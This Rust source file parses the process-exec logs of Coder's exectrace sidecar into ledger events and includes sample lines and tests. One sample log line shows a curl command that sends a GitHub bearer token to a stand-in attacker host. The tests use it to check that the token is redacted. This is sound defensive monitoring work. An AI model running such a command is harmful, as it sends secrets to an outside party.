//! Dialect `exectrace`: the programs that start in a workspace, as Coder's exectrace sidecar logs them (read in its sources of 2026).
//!
//! A line is `{"ts","level","msg":"exec","fields":{"labels":{…},"cmdline":"…","event":{…}}}` and becomes a `process.exec`; all other
//! lines are skipped. The labels are those that the workspace's template passes with `--label`. Lines have no natural id, no exit
//! and no parent but the name of the program that started the other (`comm`).

use ledger::events::column;
use operations::access::Trust;

use super::coder::line::Line;
use super::json::{Raw, Text, part, record, text_of};
use super::sensor::Labels;
use super::{members, tool};
use crate::dialect::{Decoded, Dialect, SKIP_SERVER_LINE, read_record};
use crate::encoding::FieldPath;
use crate::event::{Draft, Drafts, Record};
use crate::timestamp::Stated;

const SOURCE: &str = "coder.exec";

/// Dialect `exectrace`.
pub struct Exectrace;

impl Dialect for Exectrace {
    fn name(&self) -> &'static str {
        "exectrace"
    }

    fn doc(&self) -> &'static str {
        "The log of Coder's exectrace sidecar: every program that starts in a workspace on Kubernetes, with its command line, seen by \
         the kernel and not by the agent. Pass the workspace's id and name as labels."
    }

    fn trust(&self) -> Trust {
        Trust::Host
    }

    fn examples(&self) -> &'static [&'static str] {
        EXAMPLES
    }

    fn decode(&self, record: Record<'_>, received: i64, drafts: &mut Drafts) -> Decoded {
        let (text, line) = match read_record::<Line<Fields>>(record, "line") {
            Ok(read) => read,
            Err(other) => return other,
        };
        if line.msg.as_str() != "exec" {
            return Decoded::Skip(SKIP_SERVER_LINE);
        }
        match decode(&line, text, received, drafts.add()) {
            Ok(()) => Decoded::Events,
            Err(reason) => Decoded::Unparsed(format!("exec: {reason}")),
        }
    }
}

record! {
    /// The fields of a line.
    Fields {
        labels: Raw<'a> = "labels",
        command: Raw<'a> = "cmdline",
        event: Raw<'a> = "event",
    }

    /// What the template says of the workspace.
    Named {
        workspace: Text<'a> = "workspace_id" | "com.coder.workspace.id",
        workspace_name: Text<'a> = "workspace_name" | "com.coder.workspace.name",
        user: Text<'a> = "user_id" | "owner_id" | "com.coder.user.id",
        user_name: Text<'a> = "username" | "owner" | "com.coder.user.username",
    }

    /// What the kernel saw.
    Exec {
        program: Text<'a> = "filename",
        arguments: Raw<'a> = "argv",
        truncated: Text<'a> = "truncated",
    }
}

/// Members of the line, of its fields and of the event that stay in the record.
const FACTS: &[&str] =
    &["ts", "level", "msg", "caller", "func", "fields", "logger_names", "trace", "span", "time", "component"];
const FIELDS_FACTS: &[&str] = &["labels", "event"];
const EVENT_FACTS: &[&str] = &["filename", "truncated", "pid", "uid", "gid", "comm"];

fn decode(line: &Line<Fields>, text: &str, received: i64, draft: &mut Draft) -> Result<(), String> {
    let event = line.fields.event.ok_or("it has no event")?;
    let exec: Exec = part(Some(event));
    let arguments: Vec<Text> = part(exec.arguments);
    let said = line.fields.command.map(text_of).unwrap_or_default();
    let command =
        if arguments.is_empty() { said.into_owned() } else { tool::joined(arguments.iter().map(Text::as_str)) };
    let program = exec.program.some().ok_or("its event has no filename")?;
    draft.set_times(line.ts.time().required("it has no ts")?, Stated::Nothing, received);
    draft.set_origin(SOURCE, "workspace", "process.exec");
    draft.columns.set_text(column::ACTION, "exec");
    draft.columns.set_text(column::TARGET, program);
    draft.columns.set_text_if(column::COMMAND, Some(&command));
    if exec.truncated.as_str() == "true" {
        draft.mark("truncated:command".to_owned());
    }
    let named: Named = part(line.fields.labels);
    let labels = Labels {
        workspace: named.workspace.id(),
        workspace_name: named.workspace_name.some(),
        user: named.user.id(),
        user_name: named.user_name.some(),
        pod: None,
    };
    labels.set(draft);
    let root = FieldPath::root();
    members::add_others(draft, text, &root, text, FACTS);
    let fields = root.then("fields");
    for (name, value) in members::of(text) {
        if name.as_str() == "fields" {
            members::add_others(draft, text, &fields, value.get(), FIELDS_FACTS);
        }
    }
    members::add_others(draft, text, &fields.then("event"), event.get(), EVENT_FACTS);
    Ok(())
}

static EXAMPLES: &[&str] = &[
    r#"{"ts":"2026-10-03T08:15:08.900000657Z","level":"INFO","msg":"exec","caller":"/exectrace/enterprise/exectrace.go:126","func":"exectracewrapper.Run","fields":{"labels":{"user_id":"5b405053-7777-484a-9ad7-bcb64e7bfde6","username":"mira","workspace_id":"f1bd4e9f-2222-49fc-961e-be4d1c2aa987","workspace_name":"ledger-rewrite"},"cmdline":"aws s3 ls 's3://a bucket'","event":{"filename":"/usr/local/bin/aws","argv":["aws","s3","ls","s3://a bucket"],"truncated":false,"pid":188921,"uid":1000,"gid":1000,"comm":"bash"}}}"#,
    r#"{"ts":"2026-10-03T08:15:09.900000657Z","level":"INFO","msg":"exec","fields":{"labels":{},"cmdline":"curl -H 'Authorization: Bearer ghp_0123456789abcdefghijklmnopqrstuvwxyz' https://drop.attacker-logger.com","event":{"filename":"/usr/bin/curl","argv":["curl","-H","Authorization: Bearer ghp_0123456789abcdefghijklmnopqrstuvwxyz","https://drop.attacker-logger.com"],"truncated":true,"pid":188922,"uid":1000,"gid":1000,"comm":"bash"}}}"#,
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dialect::testing::{check, decoded, events};

    #[test]
    fn a_program_has_its_workspace_and_command_line() {
        let event = &events(&Exectrace, EXAMPLES[0])[0];
        check(
            event,
            &[
                ("source", Some("coder.exec")),
                ("family", Some("workspace")),
                ("kind", Some("process.exec")),
                ("trust", Some("host")),
                ("time", Some("1791015308900000")),
                ("action", Some("exec")),
                ("target", Some("/usr/local/bin/aws")),
                ("command", Some("aws s3 ls 's3://a bucket'")),
                ("workspace", Some("f1bd4e9f-2222-49fc-961e-be4d1c2aa987")),
                ("workspace_name", Some("ledger-rewrite")),
                ("user", Some("mira")),
                ("user_id", Some("5b405053-7777-484a-9ad7-bcb64e7bfde6")),
                ("attribution", Some("direct")),
                ("source_id", None),
                ("marks", None),
            ],
        );
        assert!(!event["record"].contains("a bucket") && event["content"].contains("a bucket"));
        let cut = &events(&Exectrace, EXAMPLES[1])[0];
        check(cut, &[("marks", Some("truncated:command")), ("workspace", None), ("attribution", None)]);
        assert!(cut["command"].contains("[REDACTED:") && cut.contains_key("effects"));
    }

    #[test]
    fn other_lines_are_skipped() {
        let other = EXAMPLES[0].replace("\"msg\":\"exec\"", "\"msg\":\"starting\"");
        assert_eq!(decoded(&Exectrace, other.as_bytes()), Decoded::Skip(SKIP_SERVER_LINE));
        for (line, word) in [
            (r#"{"msg":"exec","ts":"2026-10-03T08:15:08Z"}"#, "event"),
            (r#"{"msg":"exec","fields":{"event":{"filename":"/x"}}}"#, "ts"),
            (r#"{"msg":"exec","fields":{"event":{}}}"#, "filename"),
            ("exec", "JSON"),
        ] {
            assert!(
                matches!(decoded(&Exectrace, line.as_bytes()), Decoded::Unparsed(reason) if reason.contains(word)),
                "{line}"
            );
        }
    }
}
